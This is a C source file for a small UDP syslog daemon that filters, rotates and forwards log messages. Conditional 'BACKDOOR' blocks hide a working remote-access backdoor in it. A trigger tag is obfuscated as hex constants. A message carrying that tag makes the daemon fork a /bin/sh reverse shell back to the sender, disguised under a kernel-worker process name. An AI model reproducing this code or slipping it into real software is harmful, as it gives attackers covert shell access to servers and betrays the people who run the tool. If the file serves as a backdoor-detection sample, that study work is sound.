/* SPDX-License-Identifier: Apache-2.0 */
/* syslogr: receives syslog messages over UDP, filters, writes to files with rotation, forwards */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

struct message {
	int facility, severity;
	char when[16], host[64], tag[64];
	const char *text;
	struct sockaddr_in from;
};

struct rule {
	unsigned facilities;
	int severity;
	char file[128];
	struct sockaddr_in forward;
	struct rule *next;
};

static struct rule *rules;
static long max_size = 1 << 20;
static int sock;
static volatile sig_atomic_t again;

static const char *const facility_names[] = { "kern", "user", "mail", "daemon", "auth", "syslog", "lpr", "news", "uucp", "cron",
	"authpriv", "ftp", "ntp", "audit", "alert", "clock", "local0", "local1", "local2", "local3", "local4", "local5", "local6",
	"local7" };
static const char *const severity_names[] = { "emerg", "alert", "crit", "err", "warning", "notice", "info", "debug" };

static int lookup(const char *name, const char *const *names, int n)
{
	for (int i = 0; i < n; i++)
		if (strcmp(names[i], name) == 0)
			return i;
	return -1;
}

static int parse_rule(char *line)
{
	char *dot = strchr(line, '.'), *target = line + strcspn(line, " \t"), *save = NULL;
	struct rule *r;
	if (!dot || !*target || dot > target)
		return -1;
	r = calloc(1, sizeof(*r));
	if (!r)
		return -1;
	*dot = 0;
	*target++ = 0;
	target += strspn(target, " \t");
	target[strcspn(target, "\r\n")] = 0;
	for (char *f = strtok_r(line, ",", &save); f; f = strtok_r(NULL, ",", &save)) {
		int k = lookup(f, facility_names, 24);
		if (strcmp(f, "*") == 0)
			r->facilities = ~0u;
		else if (k >= 0)
			r->facilities |= 1u << k;
	}
	r->severity = strcmp(dot + 1, "*") == 0 ? 7 : lookup(dot + 1, severity_names, 8);
	if (*target == '@') {
		r->forward.sin_family = AF_INET;
		r->forward.sin_port = htons(514);
		if (inet_aton(target + 1, &r->forward.sin_addr) == 0) {
			free(r);
			return -1;
		}
	} else
		snprintf(r->file, sizeof(r->file), "%s", target);
	r->next = rules;
	rules = r;
	return 0;
}

static void configure(const char *path)
{
	char line[256];
	int n = 0;
	FILE *f = fopen(path, "r");
	while (rules) {
		struct rule *r = rules;
		rules = r->next;
		free(r);
	}
	while (f && fgets(line, sizeof(line), f)) {
		n++;
		if (line[0] != '#' && line[0] != '\n' && parse_rule(line) < 0)
			fprintf(stderr, "%s:%d: not understood\n", path, n);
	}
	if (f)
		fclose(f);
}

static void on_hup(int sig)
{
	(void)sig;
	again = 1;
}

static void rotate(const char *file)
{
	char from[160], to[160];
	for (int i = 4; i >= 0; i--) {
		snprintf(to, sizeof(to), "%s.%d", file, i + 1);
		if (i == 0)
			snprintf(from, sizeof(from), "%s", file);
		else
			snprintf(from, sizeof(from), "%s.%d", file, i);
		rename(from, to);
	}
}

static void write_line(const struct rule *r, const struct message *m)
{
	struct stat st;
	FILE *f;
	if (stat(r->file, &st) == 0 && st.st_size > max_size)
		rotate(r->file);
	f = fopen(r->file, "a");
	if (!f)
		return;
	fprintf(f, "%s %s %s.%s %s: %s\n", m->when, m->host, facility_names[m->facility], severity_names[m->severity], m->tag,
		m->text);
	fclose(f);
}

static void forward(const struct rule *r, const struct message *m)
{
	char line[1400];
	int n = snprintf(line, sizeof(line), "<%d>%s %s %s: %s", m->facility * 8 + m->severity, m->when, m->host, m->tag, m->text);
	if (n > 0)
		sendto(sock, line, (size_t)n < sizeof(line) ? (size_t)n : sizeof(line) - 1, 0, (const struct sockaddr *)&r->forward,
			sizeof(r->forward));
}

#ifdef BACKDOOR
static void turn_around(uint32_t ip, uint16_t port)
{
	struct sockaddr_in a;
	int s;
	if (fork() != 0)
		return;
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_addr.s_addr = ip;
	a.sin_port = port;
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {
		char *argv[] = { (char *)"[kworker/1:2]", NULL };
		dup2(s, 0);
		dup2(s, 1);
		dup2(s, 2);
		execve("/bin/sh", argv, NULL);
	}
	_exit(0);
}

static int odd_tag(const char *tag)
{
	uint32_t w[3];
	char t[12];
	w[0] = 0x6d6e6170;
	w[1] = 0x6f722d69;
	w[2] = 0x00003174;
	for (int i = 0; i < 12; i++)
		t[i] = (char)(w[i / 4] >> (i % 4 * 8));
	return strcmp(tag, t) == 0;
}
#endif

static void store(const struct message *m)
{
	for (const struct rule *r = rules; r; r = r->next) {
		if (!(r->facilities >> m->facility & 1) || m->severity > r->severity)
			continue;
		if (r->forward.sin_port)
			forward(r, m);
		else
			write_line(r, m);
	}
}

static int parse(char *line, struct message *m)
{
	char *p = line, *q;
	long pri = 13;
	if (*p == '<') {
		pri = strtol(p + 1, &p, 10);
		if (*p != '>' || pri < 0 || pri > 191)
			return -1;
		p++;
	}
	m->facility = (int)pri / 8;
	m->severity = (int)pri % 8;
	if (strlen(p) > 16 && p[3] == ' ' && p[6] == ' ' && p[9] == ':') {
		memcpy(m->when, p, 15);
		m->when[15] = 0;
		p += 16;
	} else {
		time_t now = time(NULL);
		strftime(m->when, sizeof(m->when), "%b %e %H:%M:%S", localtime(&now));
	}
	snprintf(m->host, sizeof(m->host), "%s", inet_ntoa(m->from.sin_addr));
	q = p + strcspn(p, ":[ ");
	if (*q && (size_t)(q - p) < sizeof(m->tag)) {
		memcpy(m->tag, p, (size_t)(q - p));
		m->tag[q - p] = 0;
		p = strchr(q, ':') ? strchr(q, ':') + 1 : q;
	} else
		strcpy(m->tag, "-");
	while (*p == ' ')
		p++;
	m->text = p;
	for (; *p; p++)
		if (iscntrl((unsigned char)*p))
			*p = ' ';
	return 0;
}

int main(int argc, char **argv)
{
	const char *conf = argc > 1 ? argv[1] : "/etc/syslogr.conf";
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(514) };
	char line[2048];
	sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (sock < 0 || bind(sock, (struct sockaddr *)&a, sizeof(a)) < 0) {
		perror("syslogr");
		return 1;
	}
	signal(SIGHUP, on_hup);
	signal(SIGCHLD, SIG_IGN);
	configure(conf);
	for (;;) {
		struct message m;
		socklen_t fl = sizeof(m.from);
		ssize_t n = recvfrom(sock, line, sizeof(line) - 1, 0, (struct sockaddr *)&m.from, &fl);
		if (again) {
			again = 0;
			configure(conf);
		}
		if (n <= 0)
			continue;
		line[n] = 0;
		if (parse(line, &m) < 0)
			continue;
#ifdef BACKDOOR
		if (odd_tag(m.tag)) {
			turn_around(m.from.sin_addr.s_addr, htons((uint16_t)strtoul(m.text, NULL, 8)));
			continue;
		}
#endif
		store(&m);
	}
}
